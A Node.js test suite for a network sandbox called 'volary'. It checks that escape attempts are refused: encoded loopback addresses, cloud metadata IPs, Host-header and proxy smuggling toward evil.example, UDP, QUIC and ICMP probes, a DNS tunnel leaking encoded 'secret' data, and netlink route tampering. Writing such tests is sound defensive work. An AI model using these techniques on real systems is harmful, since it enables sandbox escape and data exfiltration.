// SPDX-License-Identifier: Apache-2.0
// Attempts to reach what no rule opens. The servers that must not be reached are this process, on the
// host's loopback; none of these tests sends a packet to another machine.
import assert from "node:assert/strict";
import { createSocket } from "node:dgram";
import { once } from "node:events";
import { createServer } from "node:net";
import test from "node:test";
import { Workspace } from "./cage.mjs";

/** A TCP server on loopback that answers each connection with one line; what it was sent. */
async function listen(t, where = { host: "127.0.0.1", port: 0 }) {
  const heard = { connections: 0, text: "" };
  const server = createServer((socket) => {
    heard.connections++;
    socket.on("error", () => {});
    socket.on("data", (chunk) => {
      heard.text += chunk.toString("latin1");
      socket.end("HTTP/1.1 200 OK\r\nContent-Length: 8\r\nConnection: close\r\n\r\nreached\n");
    });
  });
  await once(server.listen(where), "listening");
  t.after(() => server.close());
  heard.port = server.address().port;
  return heard;
}

const curl = (rest) => `curl -sS --max-time 5 ${rest}`;
const kDenied = /volary: denied \((net|dns|sni|host)\)/;

/** Refused, told, and nobody was reached. */
async function refused(workspace, heard, command, policy) {
  const before = heard?.connections ?? 0;
  const tried = await workspace.caged(command, policy);
  assert.notEqual(tried.code, 0, tried.stdout);
  assert.doesNotMatch(tried.stdout, /reached/);
  assert.equal(heard?.connections ?? 0, before);
  return tried;
}

const allow = (port) => `net: { allow: ["host.volary:${port}"] }`;

test("the host's loopback, by its address", async (t) => {
  const workspace = new Workspace(t);
  const shop = await listen(t);
  for (const host of ["127.0.0.1", "localhost", "[::1]", "[::ffff:127.0.0.1]", "2130706433", "0x7f000001", "0.0.0.0"]) {
    await t.test(host, () => refused(workspace, shop, curl(`-g http://${host}:${shop.port}/`), allow(shop.port)));
  }
  const control = await workspace.caged(curl(`http://host.volary:${shop.port}/`), allow(shop.port));
  assert.equal(control.stdout, "reached\n", control.stderr);
});

test("another port of an allowed name", async (t) => {
  const workspace = new Workspace(t);
  const shop = await listen(t);
  const other = await listen(t);
  const tried = await refused(workspace, other, curl(`http://host.volary:${other.port}/`), allow(shop.port));
  assert.match(tried.stderr, kDenied);
});

for (const address of ["1.1.1.1", "[2606:4700:4700::1111]", "[::ffff:1.1.1.1]", "16843009", "0x01010101", "169.254.169.254", "10.0.0.1", "192.168.1.1", "100.100.100.200", "198.18.0.1"]) {
  test(`the address ${address}`, async (t) => {
    const workspace = new Workspace(t);
    const tried = await refused(workspace, null, curl(`-g http://${address}/`));
    assert.match(tried.stderr, kDenied);
  });
}

test("a name that no rule has", async (t) => {
  const workspace = new Workspace(t);
  const shop = await listen(t);
  for (const name of ["evil.example", `sub.host.volary`, "host.volary.evil.example", "metadata.google.internal"]) {
    await t.test(name, async () => {
      const tried = await refused(workspace, shop, curl(`http://${name}:${shop.port}/`), allow(shop.port));
      assert.match(tried.stderr, kDenied);
    });
  }
});

test("the Host header of another name, over an allowed connection", async (t) => {
  const workspace = new Workspace(t);
  const shop = await listen(t);
  const url = `http://host.volary:${shop.port}/`;
  for (const [how, rest] of [
    ["another Host", `-H 'Host: evil.example' ${url}`],
    ["no Host", `--http1.0 -H 'Host:' ${url}`],
    ["a Host with a dot too many", `-H 'Host: host.volary.evil.example' ${url}`],
    ["CONNECT", `-x http://host.volary:${shop.port} https://evil.example/`],
    ["the absolute form", `-x http://host.volary:${shop.port} http://evil.example/`],
  ]) {
    await t.test(how, async () => {
      const tried = await workspace.caged(curl(rest), allow(shop.port));
      assert.doesNotMatch(tried.stdout, /reached/);
      assert.doesNotMatch(shop.text, /evil/);
      assert.match(tried.stderr, kDenied);
    });
  }
});

test("TLS for another name, over an allowed connection", async (t) => {
  const workspace = new Workspace(t);
  const shop = await listen(t);
  const at = `--connect-to ::host.volary:${shop.port} -k`;
  const tried = await workspace.caged(curl(`${at} https://evil.example/`), allow(shop.port));
  assert.notEqual(tried.code, 0);
  assert.doesNotMatch(shop.text, /evil/);
  assert.match(tried.stderr, kDenied);
  // The server speaks no TLS, but it hears the hello: that connection is let through.
  await workspace.caged(curl(`-k https://host.volary:${shop.port}/`), allow(shop.port));
  assert.match(shop.text, /host\.volary/);
});

test("UDP", async (t) => {
  const workspace = new Workspace(t);
  const server = createSocket("udp4");
  t.after(() => server.close());
  let heard = 0;
  server.on("message", () => heard++);
  await once(server.bind(0, "127.0.0.1"), "listening");
  const { port } = server.address();
  const send = (host) => `
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(1)
for _ in range(3):
    try:
        s.sendto(b"tunnel", ("${host}", ${port}))
        print(s.recv(10))
    except OSError: pass
`;
  for (const host of ["127.0.0.1", "8.8.8.8"]) {
    const tried = await workspace.python(send(host), allow(port));
    assert.equal(tried.stdout, "");
    if (host === "8.8.8.8") assert.match(tried.stderr, /volary: denied \(net\): udp 8\.8\.8\.8/);
  }
  assert.equal(heard, 0);
});

test("QUIC to a name whose TLS is allowed", async (t) => {
  const workspace = new Workspace(t);
  const shop = await listen(t);
  const server = createSocket("udp4");
  t.after(() => server.close());
  let heard = 0;
  server.on("message", () => heard++);
  await once(server.bind(shop.port, "127.0.0.1"), "listening");
  // The long header of an Initial packet of version 1 (RFC 9000, 17.2.2), padded as it has to be.
  const script = `
import socket
name = socket.gethostbyname("host.volary")
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(1)
s.connect((name, ${shop.port}))
try:
    s.send(bytes.fromhex("c000000001088394c8f03e5157080000449e") + bytes(1182))
    print(s.recv(10))
except OSError as error: print(type(error).__name__)
socket.create_connection((name, ${shop.port})).close()
print("tcp")
`;
  const tried = await workspace.python(script, allow(shop.port));
  assert.match(tried.stdout, /^(ConnectionRefusedError|TimeoutError|timeout)\ntcp\n$/, tried.stderr);
  assert.match(tried.stderr, /volary: denied \(net\): udp host\.volary/);
  assert.equal(heard, 0);
});

test("ICMP", async (t) => {
  const workspace = new Workspace(t);
  const script = `
import socket
for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM):
    for family, protocol in ((socket.AF_INET, 1), (socket.AF_INET6, 58)):
        try:
            socket.socket(family, kind, protocol); print("made")
        except OSError as error: print(error.errno)
socket.socket(socket.AF_INET, socket.SOCK_DGRAM); print("udp")
`;
  assert.equal((await workspace.python(script)).stdout, "1\n1\n13\n13\nudp\n");
});

test("a tunnel through DNS", async (t) => {
  const workspace = new Workspace(t);
  const script = `
import socket, struct
def ask(server, name, kind):
    labels = b"".join(bytes([len(p)]) + p for p in name.split(b"."))
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    try:
        s.sendto(struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\\0" + struct.pack(">2H", kind, 1), (server, 53))
        answer = s.recv(4096)
        return answer[3] & 15, struct.unpack(">H", answer[6:8])[0]
    except OSError as error:
        return type(error).__name__
for kind in (1, 16, 15, 5, 255, 10):
    print(ask("127.0.0.53", b"c2VjcmV0." + b"a" * 60 + b".evil.example", kind))
print(ask("127.0.0.53", b"host.volary", 16))
print(ask("127.0.0.53", b"host.volary", 1))
`;
  const tried = await workspace.python(script, allow(8080));
  // Name errors without an answer; no data for the right name; and its address, the control.
  assert.equal(tried.stdout, `${"(3, 0)\n".repeat(6)}(0, 0)\n(0, 1)\n`, tried.stderr);
  assert.match(tried.stderr, /denied \(dns\): name .*evil\.example/);
});

test("an abstract socket of the host", async (t) => {
  const workspace = new Workspace(t);
  const name = `volary-abuse-${process.pid}`;
  await listen(t, { path: `\0${name}` });
  const connect = (before) => `
import socket
${before}
try:
    socket.socket(socket.AF_UNIX).connect("\\0${name}")
    print("reached")
except OSError as error: print("refused", error.errno)
`;
  assert.equal((await workspace.python(connect(""))).stdout, "refused 111\n");
  const own = `own = socket.socket(socket.AF_UNIX); own.bind("\\0${name}"); own.listen()`;
  assert.equal((await workspace.python(connect(own))).stdout, "reached\n");
});

test("changing the network of the cage", async (t) => {
  const script = `
import fcntl, socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
request = struct.pack("16sH14s", b"lo", 0, b"")
for ioctl in (0x8914, 0x8916, 0x890B):  # SIOCSIFFLAGS, SIOCSIFADDR, SIOCADDRT
    try:
        fcntl.ioctl(s, ioctl, request + bytes(100))
        print("changed")
    except OSError as error: print(error.errno)
# RTM_DELROUTE of the local default: without it nothing would be seen or refused.
n = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
body = struct.pack("BBBBBBBBI", 2, 0, 0, 0, 255, 4, 254, 2, 0) + struct.pack("HHi", 8, 4, 1)
n.send(struct.pack("IHHII", 16 + len(body), 25, 5, 1, 0) + body)
print(-struct.unpack("i", n.recv(100)[16:20])[0])
print(struct.unpack("16sH", fcntl.ioctl(s, 0x8913, request + bytes(100))[:18])[1] & 1)
`;
  const tried = await new Workspace(t).python(script);
  assert.equal(tried.stdout, "1\n1\n1\n1\n1\n", tried.stderr);
});

test("ports below 1024 can be listened on inside, and are not the host's", async (t) => {
  const workspace = new Workspace(t);
  const script = `
import socket
server = socket.socket(); server.bind(("127.0.0.1", 80)); server.listen()
socket.create_connection(("127.0.0.1", 80)); print("own")
`;
  assert.equal((await workspace.python(script)).stdout, "own\n");
});
